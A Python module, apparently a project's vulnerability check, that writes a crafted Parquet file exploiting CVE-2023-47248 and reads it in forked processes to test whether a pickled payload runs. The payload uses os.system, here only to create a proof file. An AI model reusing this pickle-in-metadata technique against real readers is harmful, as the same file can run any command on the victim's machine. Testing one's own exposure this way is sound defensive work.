"""Parquet files that have older releases of PyArrow run a program, as CVE-2023-47248 describes; and who reads them."""

from __future__ import annotations

import importlib
import importlib.util
import json
import os
import pickle
import sys
from pathlib import Path
from typing import Any

from airflow_hops.core.profiles import CURRENT, own_profile

AS_STORED = own_profile() is CURRENT
"""Whether PyArrow ignores the program and reads the column as it is stored, instead of refusing the file."""

PACKAGES = ("airflow_hops.hops", "airflow_hops.ml", "airflow_hops.serving")
"""Packages of the commands of this package's processes; the warm process's forks run the second."""


class _Program:
    def __init__(self, proof: Path) -> None:
        self.proof = proof

    def __reduce__(self) -> Any:
        return os.system, (f"touch '{self.proof}'",)


def write_crafted(path: Path, proof: Path) -> Path:
    """Writes a file whose reader makes another file, the proof; returns its path."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    extension = {"ARROW:extension:name": "arrow.py_extension_type"}
    extension["ARROW:extension:metadata"] = pickle.dumps(_Program(proof), protocol=0).decode()
    fields = [pa.field("x", pa.int64(), metadata=extension), pa.field("label", pa.int64())]
    pq.write_table(pa.table([[1, 2, 3], [0, 1, 0]], schema=pa.schema(fields)), path)
    return path


def read(path: str) -> str:
    """Reads a file and returns the outcome in words."""
    import pyarrow.parquet as pq

    try:
        return f"{pq.read_table(path).num_rows} rows"
    except Exception as error:
        return f"{type(error).__name__}: {error}"


def read_in_forks(path: str, with_pyarrow: bool) -> dict[str, str]:
    """Reads a file in a fork of this process for each package, which has imported it, and PyArrow before or after."""
    if with_pyarrow:
        import pyarrow  # noqa: F401
    results = {}
    for package in PACKAGES:
        reading, writing = os.pipe()
        if os.fork() == 0:
            importlib.import_module(package)
            importlib.util.find_spec("pyarrow")  # some libraries only ask whether it is there
            os.write(writing, read(path)[:1000].encode())
            os._exit(0)
        os.close(writing)
        with os.fdopen(reading) as stream:
            results[package] = stream.read()
        os.wait()
    return results


if __name__ == "__main__":
    print(json.dumps(read_in_forks(sys.argv[1], sys.argv[2] == "before")))
